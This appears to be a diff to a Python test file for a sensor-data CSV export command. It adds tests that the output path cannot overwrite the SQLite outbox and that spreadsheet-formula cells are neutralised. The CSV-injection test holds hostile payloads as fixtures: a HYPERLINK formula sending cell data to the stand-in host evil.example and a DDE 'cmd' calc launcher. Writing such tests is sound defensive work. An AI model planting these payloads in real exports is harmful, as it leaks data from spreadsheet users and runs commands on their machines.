@@ -98,12 +98,18 @@ def expected(r: Reading) -> dict[str, Any]:
     return item
 
 
+def unquoted(cell: str) -> str:
+    """A text cell as it was before the export neutralised it for spreadsheets."""
+    return cell[1:] if cell[:1] == "'" and cell[1:2] in ("=", "+", "-", "@", "\t", "\r") \
+        else cell
+
+
 def from_csv(text: str) -> list[dict[str, Any]]:
     """CSV rows typed back: empty is null, numbers are numbers, true/false are booleans."""
     rows = list(csv.DictReader(io.StringIO(text)))
     out = []
     for row in rows:
-        item: dict[str, Any] = {k: (v if v != "" else None) for k, v in row.items()}
+        item: dict[str, Any] = {k: (unquoted(v) if v != "" else None) for k, v in row.items()}
         for key in ("time_ns", "quality", "boot_ns"):
             item[key] = int(item[key])
         item["value"] = None if item["value"] is None else float(item["value"])
@@ -134,7 +140,7 @@ def test_csv_round_trips_every_field(tmp_path: Path) -> None:
     rows = from_csv(text)
     assert rows == [expected(r) for r in KNOWN]
     assert math.copysign(1, rows[-1]["value"]) == -1  # -0.0 stays -0.0: repr, not formatting
-    assert ",,NaN," in text and ",,+Inf," in text  # non-finite: empty value, named beside it
+    assert ",,NaN," in text and ",,'+Inf," in text  # non-finite: empty value, named beside it
     assert f"exported {len(KNOWN)} reading(s)" in result.stderr
     assert f"{iso_ns(T0)} to {iso_ns(T0 + 2 * NS)}" in result.stderr
     assert result.stdout == ""
@@ -247,6 +253,82 @@ def test_no_outbox_is_a_runtime_failure(tmp_path: Path) -> None:
                       cwd=tmp_path)
     assert result.returncode == 1 and "no outbox" in result.stderr
     assert not (tmp_path / "empty").exists()  # the export creates nothing
+
+
+# --- what --output may not touch ---------------------------------------------------------------
+
+
+def outbox_state(data: Path) -> tuple[bytes, list[Reading]]:
+    with Outbox.open_readonly(data / "outbox.sqlite") as outbox:
+        readings = [s.reading for s in outbox.take(1000)]
+    return (data / "outbox.sqlite").read_bytes(), readings
+
+
+@pytest.mark.parametrize("force", [False, True])
+def test_the_outbox_and_its_wal_and_shm_are_never_an_output(tmp_path: Path, force: bool) -> None:
+    data = fill(tmp_path / "data", KNOWN)
+    config = station(tmp_path / "station.toml")
+    before = outbox_state(data)
+    (tmp_path / "link.csv").symlink_to(data / "outbox.sqlite")
+    os.link(data / "outbox.sqlite", tmp_path / "hard.csv")
+    targets: list[str | Path] = [
+        data / "outbox.sqlite", data / "outbox.sqlite-wal", data / "outbox.sqlite-shm",
+        "data/outbox.sqlite",  # relative to the working directory
+        "data/../data/./outbox.sqlite", tmp_path / "link.csv", tmp_path / "hard.csv"]
+    for target in targets:
+        result = envagent("export", "--config", config, "--data-dir", data, "--output", target,
+                          *(["--force"] if force else []), cwd=tmp_path)
+        assert result.returncode == 1, (target, result.stderr)
+        assert "outbox" in result.stderr and "Traceback" not in result.stderr, target
+        assert outbox_state(data) == before, target
+    assert not (data / "outbox.sqlite-wal").exists() and not (data / "outbox.sqlite-shm").exists()
+    assert (tmp_path / "link.csv").is_symlink()
+
+
+def test_an_existing_file_is_replaced_only_with_force(tmp_path: Path) -> None:
+    data = fill(tmp_path / "data", KNOWN)
+    config = station(tmp_path / "station.toml")
+    target = tmp_path / "export.csv"
+    target.write_text("last week's export\n")
+    refused = envagent("export", "--config", config, "--data-dir", data, "--output", target,
+                       cwd=tmp_path)
+    assert refused.returncode == 1 and "--force" in refused.stderr
+    assert str(target) in refused.stderr and "Traceback" not in refused.stderr
+    assert target.read_text() == "last week's export\n"
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["data", "export.csv", "station.toml"]
+    forced = run_export(tmp_path, data, "--output", target, "--force")
+    assert "exported" in forced.stderr
+    assert from_csv(target.read_text(encoding="utf-8")) == [expected(r) for r in KNOWN]
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path: Path) -> None:
+    """OWASP, CSV injection: a text cell starting with = + - @ TAB or CR is prefixed with a
+    single quote; numbers are written as numbers, a negative one too."""
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    config = tmp_path / "station.toml"
+    config.write_text(station(config).read_text(encoding="utf-8").replace(
+        f'site = "{SITE}"', f"site = '{hostile}'"), encoding="utf-8")
+    readings = [reading("air", "temperature", -3.5, T0, calibration="+cmd|' /C calc'!A0"),
+                reading("air", "humidity", -math.inf, T0, unit="@SUM(1+1)"),
+                reading("soil", "temperature", 1.0, T0 + 1, unit="\t=1+1",
+                        calibration="-2+3"),
+                reading("soil", "humidity", 2.0, T0 + 1, unit="\r=1", calibration="a=b")]
+    data = fill(tmp_path / "data", readings)
+    out = tmp_path / "export.csv"
+    result = envagent("export", "--config", config, "--data-dir", data, "--output", out,
+                      cwd=tmp_path)
+    assert result.returncode == 0, result.stderr
+    rows = list(csv.DictReader(io.StringIO(out.read_bytes().decode(), newline="")))
+    assert [r["site"] for r in rows] == ["'" + hostile] * 4
+    assert [r["calibration"] for r in rows] == [
+        "'+cmd|' /C calc'!A0", "", "'-2+3", "a=b"]
+    assert [r["uom"] for r in rows] == ["°C", "'@SUM(1+1)", "'\t=1+1", "'\r=1"]
+    assert [r["nonfinite"] for r in rows] == ["", "'-Inf", "", ""]
+    assert rows[0]["value"] == "-3.5"  # a number stays a number
+    assert int(rows[0]["time_ns"]) == T0
+    for row in rows:
+        assert not any(v[:1] in ("=", "+", "-", "@", "\t", "\r") for k, v in row.items()
+                       if k not in ("value", "time_ns", "boot_ns", "quality")), row
 
 
 # --- a real run -------------------------------------------------------------------------------
